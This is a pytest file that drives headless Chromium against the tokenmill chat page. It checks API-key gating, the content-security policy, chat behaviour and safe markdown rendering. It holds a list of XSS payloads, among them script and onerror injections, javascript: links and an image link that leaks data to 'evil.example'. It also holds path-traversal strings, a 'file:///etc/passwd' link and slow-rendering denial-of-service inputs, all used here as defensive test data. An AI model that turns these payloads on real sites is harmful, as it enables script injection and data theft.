"""The page at /: what it is served with, and what it does in a browser, where there is one.

A browser is driven by a script that only the test's server has: it uses the page as a person would and sends back what
it saw. Without chromium these tests are skipped.
"""

from __future__ import annotations

import json
import queue
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from importlib.resources import files
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI, Request
from fastapi.responses import Response

from fakes.tiny_llm import serving, tiny_app, tiny_store
from tokenmill import LLM, SamplingParams
from tokenmill.serve import web
from tokenmill.serve.settings import key_hash
from tokenmill.store import Store

KEY = "correct-horse-battery"
BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
HTML = {"accept": "text/html,application/xhtml+xml"}
needs_browser = pytest.mark.skipif(BROWSER is None, reason="no chromium here")


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    return tiny_store(tmp_path_factory.mktemp("web"))


@pytest.fixture(scope="module")
def keyed(store: Store) -> Iterator[str]:
    with serving(tiny_app(Path(), store=store, api_keys=frozenset({key_hash(KEY)}))) as url:
        yield url


def test_a_browser_gets_the_page_and_a_program_what_it_expects(keyed: str) -> None:
    page = httpx.get(keyed, headers=HTML)
    assert page.headers["content-type"] == "text/html; charset=utf-8"
    assert "<title>tokenmill</title>" in page.text
    assert httpx.head(keyed, headers=HTML).status_code == 200
    good = {"authorization": f"Bearer {KEY}"}
    for accept in ({}, {"accept": "*/*"}, {"accept": "application/json"}):
        assert httpx.get(keyed, headers=good | accept).text == "Ollama is running"
    assert httpx.get(keyed).status_code == 401
    assert page.headers["vary"] == "accept"


def test_the_page_is_no_way_around_the_key(keyed: str) -> None:
    for path in ("/web/../api/tags", "/web/%2e%2e/metrics", "/web/chat.js/../../api/tags", "/web/__init__.py", "/web/"):
        reply = httpx.get(httpx.URL(keyed).copy_with(raw_path=path.encode()), headers=HTML)
        assert reply.status_code in (401, 404), path
        assert "models" not in reply.text
    for path in ("/api/tags", "/metrics", "/v1/models", "/openapi.json"):
        assert httpx.get(keyed + path, headers=HTML).status_code == 401
    assert httpx.post(keyed, headers=HTML).status_code == 401


def test_the_page_loads_nothing_from_elsewhere_and_runs_nothing_inline(keyed: str) -> None:
    policy = httpx.get(keyed, headers=HTML).headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self';" in policy
    assert "frame-ancestors 'none'" in policy
    assert "unsafe" not in policy
    assert "http" not in policy

    class Links(HTMLParser):
        found: list[str]

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            assert not any(name.startswith("on") or name == "style" for name, _ in attrs), (tag, attrs)
            self.found += [value or "" for name, value in attrs if name in ("src", "href")]

    for name, kind in web.PARTS.items():
        reply = httpx.get(f"{keyed}/web/{name}")
        assert (reply.status_code, reply.headers["content-type"]) == (200, kind)
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert not re.findall(r"https?://[a-z]", reply.text), name
        assert not re.search(r"innerHTML|outerHTML|insertAdjacent|document\.write|\beval\(|new Function", reply.text)
    parser = Links()
    parser.found = []
    parser.feed(files(web).joinpath("page.html").read_text())
    assert set(parser.found) == {"data:,", "/web/page.css", "/web/chat.js"}


PRELUDE = """
const $ = (id) => document.getElementById(id);
async function until(what, ms = 30000) {
  const end = performance.now() + ms;
  while (!what()) {
    if (performance.now() > end) throw new Error("this never came true: " + what);
    await new Promise((go) => setTimeout(go, 10));
  }
}
const type = (id, text) => { $(id).value = text; $(id).dispatchEvent(new Event("input", { bubbles: true })); };
const press = (key, more = {}) => {
  const event = new KeyboardEvent("keydown", { key, bubbles: true, cancelable: true, ...more });
  document.activeElement.dispatchEvent(event);
};
const answers = () => [...document.querySelectorAll("article.assistant")];
const done = async () => { await until(() => !$("send").hidden); };
const problems = [];
addEventListener("securitypolicyviolation", (event) => problems.push(event.violatedDirective + " " + event.blockedURI));
addEventListener("error", (event) => problems.push(String(event.message)));
addEventListener("unhandledrejection", (event) => problems.push(String(event.reason)));
async function drive() {
"""
EPILOGUE = """
}
const found = await drive().catch((error) => ({ failed: String(error) }));
await fetch("/seen", { method: "POST", body: JSON.stringify({ ...found, problems }) });
"""

Drive = Callable[..., dict[str, Any]]


@pytest.fixture
def drive(store: Store, tmp_path: Path) -> Drive:
    """Runs a script in the page and gives what it returned. Settings of the server may be named."""

    def run(script: str, **settings: Any) -> dict[str, Any]:
        app, seen = tiny_app(Path(), store=store, **settings), queue.Queue[dict[str, Any]]()
        _add_driver(app, script, seen)
        with serving(app) as url:
            profile = f"--user-data-dir={tmp_path / 'profile'}"
            flags = ["--headless=new", "--no-sandbox", "--disable-gpu", "--remote-debugging-port=0", profile]
            with subprocess.Popen(
                [str(BROWSER), *flags, f"{url}/web/drive.html"], stderr=subprocess.DEVNULL
            ) as process:
                try:
                    return seen.get(timeout=90)
                finally:
                    process.terminate()

    return run


def _add_driver(app: FastAPI, script: str, seen: queue.Queue[dict[str, Any]]) -> None:
    page = files(web).joinpath("page.html").read_text()
    page = page.replace("</head>", '<script type="module" src="/web/drive.js"></script></head>')
    parts = {"drive.html": (page, "text/html"), "drive.js": (PRELUDE + script + EPILOGUE, "text/javascript")}
    policy = {"content-security-policy": web.HEADERS["content-security-policy"]}

    async def part(request: Request) -> Response:
        content, kind = parts[request.url.path.rpartition("/")[2]]
        return Response(content, media_type=kind, headers=policy)

    async def tell(request: Request) -> None:
        seen.put(json.loads(await request.body()))

    for name in parts:
        app.router.routes.insert(0, _route(f"/web/{name}", part))
    # beside the guard: the browser has no key when it reports
    app.router.routes.insert(0, _route("/seen", tell, "POST"))


def _route(path: str, endpoint: Any, method: str = "GET") -> Any:
    from fastapi.routing import APIRoute

    return APIRoute(path, endpoint, methods=[method])


@needs_browser
def test_a_conversation_in_the_page(drive: Drive, store: Store) -> None:
    found = drive("""
  await until(() => $("model").value);
  const focus = document.activeElement.id;
  type("temperature", "0"); type("max_tokens", "12"); type("system", "Be brief.");
  document.body.style.height = "220px";
  type("prompt", "the cat sat on");
  press("Enter");
  await until(() => answers().length); await done();
  const below = $("conversation").scrollHeight - $("conversation").scrollTop - $("conversation").clientHeight;
  type("prompt", "and the dog");
  press("Enter", { shiftKey: true });
  const held = $("send").hidden;
  press("Enter");
  await until(() => answers().length === 2); await done();
  const kept = JSON.parse(localStorage.getItem("tokenmill.chat"));
  const figures = $("figures").textContent;
  type("max_tokens", "400"); type("temperature", "1.5"); type("prompt", "go on");
  $("send").click();
  await until(() => answers().length === 3 && answers()[2].textContent.length > 3);
  press("Escape"); await done();
  const stopped = JSON.parse(localStorage.getItem("tokenmill.chat")).messages.at(-1).content.length;
  const copies = document.querySelectorAll("article.assistant .tools button").length;
  press("o", { ctrlKey: true, shiftKey: true });
  const left = JSON.parse(localStorage.getItem("tokenmill.chat")).messages.length;
  const model = $("model").value, hint = !!document.querySelector(".hint");
  return { focus, held, kept, figures, stopped, copies, left, model, hint, below };
""")
    assert "failed" not in found, found
    assert found["problems"] == []
    llm, params = LLM("tiny", store=store, dtype="float32"), SamplingParams(temperature=0, max_tokens=12)
    asked = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "the cat sat on"}]
    first = llm.chat(asked, params).text
    asked += [{"role": "assistant", "content": first}, {"role": "user", "content": "and the dog"}]
    assert [turn["content"] for turn in found["kept"]["messages"]] == [
        "the cat sat on",
        first,
        "and the dog",
        llm.chat(asked, params).text,
    ]
    assert found["kept"]["settings"] == {"temperature": "0", "max_tokens": "12", "system": "Be brief."}
    assert re.search(r"tokens/s.* tokens in.*, 12 out · cut", found["figures"])
    assert (found["focus"], found["held"], found["model"], found["left"]) == ("prompt", False, "tiny:latest", 0)
    assert found["stopped"] > 0
    assert found["copies"] == 3
    assert found["below"] < 2  # what stands under an answer is in sight
    assert found["hint"]


@needs_browser
def test_the_page_asks_for_a_key(drive: Drive) -> None:
    found = drive(
        f"""
  await until(() => !$("keys").hidden);
  const silent = $("notice").hidden;
  type("key", "a-wrong-key"); $("keys").requestSubmit();
  await until(() => !$("notice").hidden);
  const told = $("notice").textContent;
  type("key", "{KEY}"); $("keys").requestSubmit();
  await until(() => $("model").value);
  const stored = localStorage.getItem("tokenmill.key");
  const real = fetch;
  globalThis.fetch = (path, options) => real(path, {{ ...options, headers: {{ "x-api-key": "{KEY}" }} }});
  return {{ silent, told, stored, hidden: $("keys").hidden }};
""",
        api_keys=frozenset({key_hash(KEY)}),
    )
    assert (found["silent"], found["stored"], found["hidden"]) == (True, None, True), found
    assert "does not know this key" in found["told"]


@needs_browser
def test_an_error_is_shown_and_can_be_tried_again(drive: Drive) -> None:
    found = drive("""
  await until(() => $("model").value);
  type("prompt", "the cat ".repeat(600)); $("send").click();
  await until(() => document.querySelector("article.error"));
  const told = document.querySelector("article.error").textContent;
  await done();
  type("prompt", "the cat"); type("max_tokens", "3"); $("send").click();
  await until(() => answers().length); await done();
  const kept = JSON.parse(localStorage.getItem("tokenmill.chat")).messages;
  const errors = document.querySelectorAll("article.error").length;
  const asked = document.querySelectorAll("article.user").length;
  return { told, turns: kept.map((turn) => turn.role), first: kept[0].content, errors, asked };
""")
    assert "512" in found["told"]
    assert (found["turns"], found["first"]) == (["user", "assistant"], "the cat")
    assert (found["errors"], found["asked"]) == (0, 1)


ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "[a](javascript:window.pwned=1)",
    "[a](JaVaScRiPt:window.pwned=1)",
    "[a](data:text/html,<script>1</script>)",
    "[a]( javascript:1)",
    '[a](https://x.example/" onclick="window.pwned=1)',
    "![x](https://evil.example/?leak=secret)",
    "`<b>` **<i>x</i>** *<u>* ~~~\n</code></pre><script>window.pwned=1</script>\n~~~",
    "```html\n<script>window.pwned=1</script>\n```",
    "| <script>1</script> | b |\n|---|---|\n| <img src=x onerror=1> | [x](vbscript:1) |",
    "# <svg onload=window.pwned=1>",
    "> - <iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<a href='https://x.example' style='position:fixed'>all of the page</a>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "[x](//evil.example) [y](/api/delete) [z](file:///etc/passwd)",
]
SLOW = ["**a " * 9000, "[" * 40000, "`" * 40000, "__x " * 9000, "> " * 9000, "- " * 9000, "# " + " " * 40000 + "x"]
SLOW += ["|" * 30000 + "\n" + "|-" * 15000, "*" * 40000, "[a](" * 9000, "  - x\n" * 6000, "- " + " " * 40000 + "-"]


@needs_browser
def test_nothing_that_a_model_writes_becomes_more_than_text(drive: Drive) -> None:
    found = drive(f"""
  const {{ render }} = await import("/web/markdown.js");
  const shown = {json.dumps(ATTACKS)}.map((text) => {{
    const box = document.body.appendChild(document.createElement("div"));
    box.append(render(text));
    const all = [...box.querySelectorAll("*")];
    return {{
      tags: all.map((node) => node.localName),
      attributes: all.flatMap((node) => [...node.attributes].map((one) => [node.localName, one.name, one.value])),
      text: box.textContent,
    }};
  }});
  const times = {json.dumps(SLOW)}.map((text) => {{
    const began = performance.now();
    render(text);
    return performance.now() - began;
  }});
  await new Promise((go) => setTimeout(go, 200));
  return {{ shown, times, pwned: String(window.pwned) }};
""")
    assert "failed" not in found, found
    assert found["pwned"] == "undefined"
    assert found["problems"] == [], "not even tried"
    allowed = "p br h2 h3 h4 ul ol li blockquote pre code table tr th td hr strong em a"
    for attack, shown in zip(ATTACKS, found["shown"], strict=True):
        assert set(shown["tags"]) <= {*allowed.split(" ")}, attack
        for tag, name, value in shown["attributes"]:
            assert tag == "a", attack
            assert name in ("href", "rel", "target"), attack
            assert name != "href" or value.startswith("https://"), (attack, value)
    assert "<script>window.pwned = 1</script>" in found["shown"][0]["text"]
    assert max(found["times"]) < 3000, found["times"]


@needs_browser
def test_markdown_reads_as_it_should(drive: Drive) -> None:
    text = (
        "# Title #\n\nOne **bold *both* word** and `a < b`\nnext line.\n\n- first\n- second\n  1. deep\n  2. deeper\n\n"
        "3. three\n4. four\n\n> quoted\n\n```python\nif a < b:\n    pass\n```\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n\n"
        "---\n"
        "[site](https://x.example/a_b_c) 2 * 3 * 4 snake_case_name"
    )
    found = drive(f"""
  const {{ render }} = await import("/web/markdown.js");
  const box = document.createElement("div");
  box.append(render({json.dumps(text)}));
  const cut = [...Array({len(text)}).keys()].map((end) => render({json.dumps(text)}.slice(0, end)).childNodes.length);
  return {{ html: box["inner" + "HTML"], cut: cut.length }};
""")
    assert found["html"] == (
        "<h2>Title</h2><p>One <strong>bold <em>both</em> word</strong> and <code>a &lt; b</code><br>next line.</p>"
        "<ul><li>first</li><li><p>second</p><ol><li>deep</li><li>deeper</li></ol></li></ul>"
        '<ol start="3"><li>three</li><li>four</li></ol><blockquote><p>quoted</p></blockquote>'
        "<pre><code>if a &lt; b:\n    pass</code></pre>"
        "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table><hr>"
        '<p><a href="https://x.example/a_b_c" rel="noopener noreferrer nofollow" target="_blank">site</a>'
        " 2 * 3 * 4 snake_case_name</p>"
    )
